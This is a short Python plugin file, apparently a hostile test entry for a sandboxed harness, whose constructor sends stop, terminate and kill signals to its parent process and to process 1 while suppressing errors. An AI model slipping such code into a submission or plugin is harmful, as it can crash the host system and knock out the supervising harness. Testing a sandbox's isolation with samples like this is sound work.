# Sends SIGSTOP and SIGKILL to its parent and to process 1.
# rule: none
# track: fixed

import contextlib
import os
import signal

from base_entry import Base


class Entry(Base):
    def __init__(self):
        super().__init__()
        for process in {os.getppid(), 1}:
            for blow in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
                with contextlib.suppress(OSError):
                    os.kill(process, blow)


def load():
    return Entry()
